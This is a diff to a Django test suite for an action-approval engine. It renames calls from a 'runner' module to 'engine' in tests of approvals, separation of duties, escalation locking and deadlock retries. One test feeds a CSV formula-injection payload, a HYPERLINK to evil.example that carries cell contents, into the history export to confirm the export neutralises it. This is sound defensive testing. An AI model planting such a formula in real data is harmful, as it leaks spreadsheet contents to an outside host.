@@ -17,8 +17,12 @@ from django.test import Client
 from django.utils import timezone
 from pydantic import BaseModel, Field
 
-from actions import runner
+from actions import engine
 from actions.core import ActionContext, ActionInterrupt, ApprovalPolicy, action
+from actions.drivers.base import StepResult, call_binding
+from actions.engine.decisions import lock_run
+from actions.engine.errors import retry_on_conflict
+from actions.engine.steps import answers_of
 from actions.models import ApiToken, Interrupt, Policy, Run, RunEvent, Team
 
 pytestmark = pytest.mark.django_db(transaction=True)
@@ -102,9 +106,7 @@ def test_a_scripts_pause_is_bound_to_its_position_action_and_arguments(
     source = 'return tools.send_invoice(invoice_id=input["id"], amount=3)'
     run = post(client, "/api/scripts/runs", {"source": source, "input": {"id": "S-1"}}, token_key).json()
     interrupt = Interrupt.objects.get(run_id=run["id"])
-    assert interrupt.binding == runner.call_binding(
-        "send_invoice", {"invoice_id": "S-1", "amount": 3}, position=0
-    )
+    assert interrupt.binding == call_binding("send_invoice", {"invoice_id": "S-1", "amount": 3}, position=0)
     # The stored pause is for another call than the one approved: the answer resumes nothing.
     stored = Run.objects.get(pk=run["id"])
     stored.driver_state["paused"]["input"]["amount"] = 3000
@@ -114,14 +116,14 @@ def test_a_scripts_pause_is_bound_to_its_position_action_and_arguments(
 
 
 def test_a_plain_actions_answer_resumes_only_the_step_that_paused(team: Team, reviewer: User) -> None:
-    run = runner.start_run("send_invoice", {"invoice_id": "P-1", "amount": 5}, team, None)
-    (interrupt,) = runner.pending_interrupts(run.pk)
+    run = engine.start_run("send_invoice", {"invoice_id": "P-1", "amount": 5}, team, None)
+    (interrupt,) = engine.pending_interrupts(run.pk)
     assert interrupt.binding == {"action": "send_invoice"}
-    runner.resume(interrupt, {"approved": True}, reviewer)
+    engine.resume(interrupt, {"approved": True}, reviewer)
     run.refresh_from_db()
     assert run.status == "completed"
-    assert runner.last_resumption(run, {"action": "send_invoice"}) is not None
-    assert runner.last_resumption(run, {"action": "transfer_funds"}) is None
+    assert answers_of(run.pk).resumption_for({"action": "send_invoice"}) is not None
+    assert answers_of(run.pk).resumption_for({"action": "transfer_funds"}) is None
 
 
 # 3. A deadline's default answer is validated
@@ -173,9 +175,9 @@ def test_an_invalid_default_answer_at_the_deadline_expires_the_interrupt_with_a_
     Policy.objects.create(
         team=team, action="scoped_choice", deadline_minutes=5, default_answer={"scope": "x"}
     )
-    run = runner.start_run("scoped_choice", {"scope": "some"}, team, None)
-    (interrupt,) = runner.pending_interrupts(run.pk)
-    assert runner.apply_policies(now=timezone.now() + timedelta(minutes=6)) == 1
+    run = engine.start_run("scoped_choice", {"scope": "some"}, team, None)
+    (interrupt,) = engine.pending_interrupts(run.pk)
+    assert engine.apply_policies(now=timezone.now() + timedelta(minutes=6)) == 1
     interrupt.refresh_from_db()
     run.refresh_from_db()
     assert interrupt.status == "expired" and interrupt.answer is None
@@ -213,8 +215,8 @@ def test_n_approvals_must_agree_on_one_answer_and_a_different_one_starts_the_cou
 ) -> None:
     third = User.objects.create_user("reviewer3", password="pw-reviewer3")
     team.members.add(third)
-    run = runner.start_run(FOUR_EYES_DELETE, {"scope": "some"}, team, None)
-    (interrupt,) = runner.pending_interrupts(run.pk)
+    run = engine.start_run(FOUR_EYES_DELETE, {"scope": "some"}, team, None)
+    (interrupt,) = engine.pending_interrupts(run.pk)
     one, two, three = Client(), Client(), Client()
     one.force_login(reviewer)
     two.force_login(second_reviewer)
@@ -256,10 +258,10 @@ def test_n_approvals_must_agree_on_one_answer_and_a_different_one_starts_the_cou
 def test_the_inbox_and_the_api_count_only_the_approvals_that_agree(
     team: Team, reviewer: User, second_reviewer: User, client: Client, token_key: str
 ) -> None:
-    run = runner.start_run(FOUR_EYES_DELETE, {"scope": "some"}, team, None)
-    (interrupt,) = runner.pending_interrupts(run.pk)
-    runner.resume(interrupt, {"scope": "personal_data"}, reviewer)
-    runner.resume(interrupt, {"scope": "everything"}, second_reviewer)
+    run = engine.start_run(FOUR_EYES_DELETE, {"scope": "some"}, team, None)
+    (interrupt,) = engine.pending_interrupts(run.pk)
+    engine.resume(interrupt, {"scope": "personal_data"}, reviewer)
+    engine.resume(interrupt, {"scope": "everything"}, second_reviewer)
     page = Client()
     page.force_login(reviewer)
     assert "1 of 2 approvals" in page.get("/").content.decode()
@@ -274,11 +276,11 @@ def test_the_inbox_and_the_api_count_only_the_approvals_that_agree(
 def test_a_superseded_approver_may_approve_the_new_answer(
     team: Team, reviewer: User, second_reviewer: User
 ) -> None:
-    run = runner.start_run(FOUR_EYES_DELETE, {"scope": "some"}, team, None)
-    (interrupt,) = runner.pending_interrupts(run.pk)
-    runner.resume(interrupt, {"scope": "personal_data"}, reviewer)
-    runner.resume(interrupt, {"scope": "everything", "notify_customer": False}, second_reviewer)
-    runner.resume(interrupt, {"scope": "everything", "notify_customer": False}, reviewer)
+    run = engine.start_run(FOUR_EYES_DELETE, {"scope": "some"}, team, None)
+    (interrupt,) = engine.pending_interrupts(run.pk)
+    engine.resume(interrupt, {"scope": "personal_data"}, reviewer)
+    engine.resume(interrupt, {"scope": "everything", "notify_customer": False}, second_reviewer)
+    engine.resume(interrupt, {"scope": "everything", "notify_customer": False}, reviewer)
     run.refresh_from_db()
     assert run.status == "completed" and run.output == {
         "deleted": {"scope": "everything", "notify_customer": False}
@@ -291,8 +293,8 @@ def test_a_superseded_approver_may_approve_the_new_answer(
 def test_whoever_started_a_run_may_not_approve_it_when_the_policy_says_so(
     team: Team, reviewer: User, second_reviewer: User, client: Client
 ) -> None:
-    run = runner.start_run("transfer_funds", {"amount": 50, "to": "DE12"}, team, reviewer)
-    (interrupt,) = runner.pending_interrupts(run.pk)
+    run = engine.start_run("transfer_funds", {"amount": 50, "to": "DE12"}, team, reviewer)
+    (interrupt,) = engine.pending_interrupts(run.pk)
     client.force_login(reviewer)
     page = client.get(f"/interrupts/{interrupt.pk}/").content.decode()
     assert "Separation of duties" in page and 'class="approve-form"' not in page
@@ -301,7 +303,7 @@ def test_whoever_started_a_run_may_not_approve_it_when_the_policy_says_so(
     interrupt.refresh_from_db()
     assert interrupt.status == "pending"
 
-    runner.resume(interrupt, {"approved": True}, second_reviewer)
+    engine.resume(interrupt, {"approved": True}, second_reviewer)
     run.refresh_from_db()
     assert run.status == "completed"
 
@@ -319,8 +321,8 @@ def test_no_api_token_may_approve_under_separation_of_duties(
     refused = post(client, interrupt["resume_url"], {"data": {"approved": True}}, other_key)
     assert refused.status_code == 403 and "an API token is not a person" in refused.json()["detail"]
     # A person's run, and the team's CI token approving it: refused too.
-    run = runner.start_run("transfer_funds", {"amount": 5, "to": "X"}, team, reviewer)
-    (own,) = runner.pending_interrupts(run.pk)
+    run = engine.start_run("transfer_funds", {"amount": 5, "to": "X"}, team, reviewer)
+    (own,) = engine.pending_interrupts(run.pk)
     refused = post(client, f"/api/interrupts/{own.pk}/resume", {"data": {"approved": True}}, token_key)
     assert refused.status_code == 403
     # The requester may still withdraw.
@@ -330,19 +332,19 @@ def test_no_api_token_may_approve_under_separation_of_duties(
 
 def test_a_team_may_turn_separation_of_duties_on_or_off_for_an_action(team: Team, reviewer: User) -> None:
     Policy.objects.create(team=team, action="send_invoice", requester_may_approve=False)
-    run = runner.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, reviewer)
-    (interrupt,) = runner.pending_interrupts(run.pk)
-    with pytest.raises(runner.NotAllowed, match="Separation of duties"):
-        runner.resume(interrupt, {"approved": True}, reviewer)
+    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, reviewer)
+    (interrupt,) = engine.pending_interrupts(run.pk)
+    with pytest.raises(engine.NotAllowed, match="Separation of duties"):
+        engine.resume(interrupt, {"approved": True}, reviewer)
     Policy.objects.filter(team=team).update(requester_may_approve=True)
-    run = runner.start_run("transfer_funds", {"amount": 1, "to": "X"}, team, reviewer)
-    (interrupt,) = runner.pending_interrupts(run.pk)
-    with pytest.raises(runner.NotAllowed):
-        runner.resume(interrupt, {"approved": True}, reviewer)  # the action's own policy still holds
+    run = engine.start_run("transfer_funds", {"amount": 1, "to": "X"}, team, reviewer)
+    (interrupt,) = engine.pending_interrupts(run.pk)
+    with pytest.raises(engine.NotAllowed):
+        engine.resume(interrupt, {"approved": True}, reviewer)  # the action's own policy still holds
     Policy.objects.create(team=team, action="transfer_funds", requester_may_approve=True)
-    run = runner.start_run("transfer_funds", {"amount": 1, "to": "X"}, team, reviewer)
-    (interrupt,) = runner.pending_interrupts(run.pk)
-    runner.resume(interrupt, {"approved": True}, reviewer)
+    run = engine.start_run("transfer_funds", {"amount": 1, "to": "X"}, team, reviewer)
+    (interrupt,) = engine.pending_interrupts(run.pk)
+    engine.resume(interrupt, {"approved": True}, reviewer)
     assert Run.objects.get(pk=run.pk).status == "completed"
 
 
@@ -351,18 +353,18 @@ def test_a_team_may_turn_separation_of_duties_on_or_off_for_an_action(team: Team
 
 def test_rejecting_what_one_may_not_decide_is_403_not_500(team: Team, reviewer: User, client: Client) -> None:
     Policy.objects.create(team=team, action="send_invoice", assignees="reviewer2")
-    run = runner.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
-    (interrupt,) = runner.pending_interrupts(run.pk)
+    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
+    (interrupt,) = engine.pending_interrupts(run.pk)
     client.force_login(reviewer)
     refused = client.post(f"/interrupts/{interrupt.pk}/reject/", {"reject-reason": "no"})
     assert refused.status_code == 403 and "Only reviewer2 may decide this." in refused.content.decode()
 
 
 def test_a_step_that_reports_a_pause_without_one_fails_the_run_instead_of_hanging(team: Team) -> None:
-    run = runner.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
+    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
     Run.objects.filter(pk=run.pk).update(status="running", attempt=7)
     run.refresh_from_db()
-    runner.record(run, runner.StepResult(Run.Status.INTERRUPTED, pauses=[]))
+    engine.record(run, StepResult(Run.Status.INTERRUPTED, pauses=[]))
     run.refresh_from_db()
     assert run.status == "failed" and "paused without saying on what" in run.error
 
@@ -396,9 +398,9 @@ def leaky_crash_text() -> str:
 def test_the_history_export_neutralises_cells_a_spreadsheet_would_run(
     team: Team, reviewer: User, auditor: User, client: Client
 ) -> None:
-    run = runner.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
-    (interrupt,) = runner.pending_interrupts(run.pk)
-    runner.reject(interrupt, '=HYPERLINK("http://evil.example/?"&A1,"click")', reviewer)
+    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
+    (interrupt,) = engine.pending_interrupts(run.pk)
+    engine.reject(interrupt, '=HYPERLINK("http://evil.example/?"&A1,"click")', reviewer)
     client.force_login(auditor)
     body = b"".join(client.get("/history/export.csv").streaming_content).decode()  # type: ignore[attr-defined]
     assert "'=HYPERLINK" in body and ",=HYPERLINK" not in body and '"=HYPERLINK' not in body
@@ -407,18 +409,18 @@ def test_the_history_export_neutralises_cells_a_spreadsheet_would_run(
 def test_cancelling_a_run_tells_the_inbox_of_the_team_it_escalated_to(
     team: Team, other_team: Team, reviewer: User, monkeypatch: Any
 ) -> None:
-    from actions import live
+    from actions.web import live
 
     pushed: list[tuple[int, str, dict[str, Any]]] = []
     monkeypatch.setattr(
         live, "notify_team", lambda team_id, event, **payload: pushed.append((team_id, event, payload))
     )
     Policy.objects.create(team=team, action="send_invoice", escalate_after_minutes=1, escalate_to=other_team)
-    run = runner.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
-    (interrupt,) = runner.pending_interrupts(run.pk)
-    runner.apply_policies(now=timezone.now() + timedelta(minutes=2))
+    run = engine.start_run("send_invoice", {"invoice_id": "S", "amount": 1}, team, None)
+    (interrupt,) = engine.pending_interrupts(run.pk)
+    engine.apply_policies(now=timezone.now() + timedelta(minutes=2))
     pushed.clear()
-    runner.cancel(run, reviewer)
+    engine.cancel(run, reviewer)
     told = {
         (team_id, payload["interrupt_id"], payload["status"])
         for team_id, event, payload in pushed
@@ -438,9 +440,9 @@ def test_escalations_racing_decisions_all_land_once_without_a_deadlock(
     then touched the run (its event's foreign key) deadlocked with it. Both take the run first."""
     Policy.objects.create(team=team, action="send_invoice", escalate_after_minutes=1, escalate_to=other_team)
     runs = [
-        runner.start_run("send_invoice", {"invoice_id": f"R-{n}", "amount": 1}, team, None) for n in range(12)
+        engine.start_run("send_invoice", {"invoice_id": f"R-{n}", "amount": 1}, team, None) for n in range(12)
     ]
-    interrupts = [runner.pending_interrupts(run.pk)[0] for run in runs]
+    interrupts = [engine.pending_interrupts(run.pk)[0] for run in runs]
     errors: list[BaseException] = []
     start = threading.Barrier(3)
 
@@ -448,7 +450,7 @@ def test_escalations_racing_decisions_all_land_once_without_a_deadlock(
         try:
             start.wait()
             for _ in range(3):
-                runner.apply_policies(now=timezone.now() + timedelta(minutes=2))
+                engine.apply_policies(now=timezone.now() + timedelta(minutes=2))
         except BaseException as exc:  # noqa: BLE001 - reported by the test
             errors.append(exc)
         finally:
@@ -458,7 +460,7 @@ def test_escalations_racing_decisions_all_land_once_without_a_deadlock(
         try:
             start.wait()
             for interrupt in chosen:
-                runner.resume(interrupt, {"approved": True}, reviewer)
+                engine.resume(interrupt, {"approved": True}, reviewer)
         except BaseException as exc:  # noqa: BLE001
             errors.append(exc)
         finally:
@@ -489,14 +491,14 @@ def test_an_escalation_waits_for_the_run_lock_before_it_touches_the_interrupt(
     """The lock order, shown directly: while another transaction holds the run (as a decision
     does), an escalation of its interrupt waits without having locked or changed the interrupt."""
     Policy.objects.create(team=team, action="send_invoice", escalate_after_minutes=1, escalate_to=other_team)
-    run = runner.start_run("send_invoice", {"invoice_id": "L-1", "amount": 1}, team, None)
-    (interrupt,) = runner.pending_interrupts(run.pk)
+    run = engine.start_run("send_invoice", {"invoice_id": "L-1", "amount": 1}, team, None)
+    (interrupt,) = engine.pending_interrupts(run.pk)
     locked, release, errors = threading.Event(), threading.Event(), []
 
     def hold_the_run() -> None:
         try:
             with transaction.atomic():
-                runner._lock_run(run.pk)
+                lock_run(run.pk)
                 locked.set()
                 release.wait(10)
         finally:
@@ -504,7 +506,7 @@ def test_an_escalation_waits_for_the_run_lock_before_it_touches_the_interrupt(
 
     def escalate() -> None:
         try:
-            runner.apply_policies(now=timezone.now() + timedelta(minutes=2))
+            engine.apply_policies(now=timezone.now() + timedelta(minutes=2))
         except BaseException as exc:  # noqa: BLE001 - reported by the test
             errors.append(exc)
         finally:
@@ -538,7 +540,7 @@ def test_a_deadlock_is_retried_and_never_reported_as_the_database_being_unavaila
 
     attempts: list[int] = []
 
-    @runner.retry_on_conflict
+    @retry_on_conflict
     def change() -> str:
         attempts.append(1)
         if len(attempts) < 3:
@@ -547,14 +549,14 @@ def test_a_deadlock_is_retried_and_never_reported_as_the_database_being_unavaila
 
     assert change() == "done" and len(attempts) == 3
 
-    @runner.retry_on_conflict
+    @retry_on_conflict
     def always() -> None:
         raise OperationalError("could not serialize") from pg.SerializationFailure("could not serialize")
 
-    with pytest.raises(runner.Busy, match="nothing was changed, try again"):
+    with pytest.raises(engine.Busy, match="nothing was changed, try again"):
         always()
 
-    @runner.retry_on_conflict
+    @retry_on_conflict
     def gone() -> None:
         raise OperationalError("connection refused")
 
